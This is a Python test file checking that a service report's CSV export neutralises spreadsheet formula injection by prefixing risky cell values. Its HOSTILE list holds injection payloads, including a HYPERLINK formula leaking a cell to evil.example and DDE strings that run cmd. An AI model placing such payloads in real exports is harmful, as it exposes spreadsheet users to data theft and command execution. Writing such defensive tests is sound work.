"""The evaluation report's CSV: a text cell a spreadsheet would run as a formula (a
district or service name typed with `=`, `+`, `-`, `@`, a tab or a carriage return in
front) is exported as text; the numbers stay numbers and the report page shows the names
as they were typed."""

from __future__ import annotations

import csv
import io

import pytest

from services.notify.domain import ReportLine
from services.notify.reports import report_csv, report_rows
from shared.text import spreadsheet_safe

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def line(*, service_code: str = "emergency_relief", district: str = "Tenggarong") -> ReportLine:
    return ReportLine(
        service_code=service_code,
        month="2026-03",
        district=district,
        handled=4,
        within_standard=3,
        share_within=0.75,
        median_seconds=-1800.0,  # a clock set back: a negative number, still a number
        p90_seconds=7200.0,
    )


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_name_that_reads_as_a_formula_is_exported_as_text(hostile: str) -> None:
    exported = report_csv([line(district=hostile, service_code=hostile)])
    (_header, row) = list(csv.reader(io.StringIO(exported, newline="")))
    assert row[0] == f"'{hostile}"
    assert row[2] == f"'{hostile}"
    assert row[3:] == ["4", "3", "0.750", "-0.50", "2.00"]


def test_ordinary_names_are_exported_unchanged() -> None:
    exported = report_csv([line(district="Loa Kulu - Ilir")])
    (_header, row) = list(csv.reader(io.StringIO(exported, newline="")))
    assert row[:3] == ["emergency_relief", "2026-03", "Loa Kulu - Ilir"]


def test_the_report_page_shows_the_names_as_typed() -> None:
    assert report_rows([line(district="=1+1")])[0][2] == "=1+1"


def test_only_a_formula_start_is_prefixed() -> None:
    assert [spreadsheet_safe(value) for value in ("=A1", "A=1", "", "12")] == [
        "'=A1",
        "A=1",
        "",
        "12",
    ]


def test_a_carriage_return_inside_a_name_does_not_start_a_new_row() -> None:
    exported = report_csv([line(district="Loa Kulu\rIlir")])
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(rows) == 2
    assert rows[1][2] == "Loa Kulu\rIlir"
